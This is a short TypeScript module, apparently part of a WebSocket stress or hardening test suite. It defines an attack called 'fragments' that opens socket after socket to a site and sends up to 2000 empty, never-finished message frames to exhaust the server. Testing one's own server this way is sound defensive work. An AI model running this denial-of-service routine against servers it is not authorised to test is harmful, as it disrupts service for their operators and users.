// One message in endless fragments.
import { type Attack, comesSoon, socketAfterSocket } from '../attack.ts';

const FRAGMENTS = 2000;

export const fragments: Attack = {
  name: 'fragments',
  aim: 'a message that never ends, in empty frames',
  run: (site) =>
    socketAfterSocket(site, async ({ socket, closed }) => {
      for (let i = 0; i < FRAGMENTS && socket.readyState === socket.OPEN; i += 1) {
        socket.send('', { fin: false });
      }
      return comesSoon(closed);
    }),
};
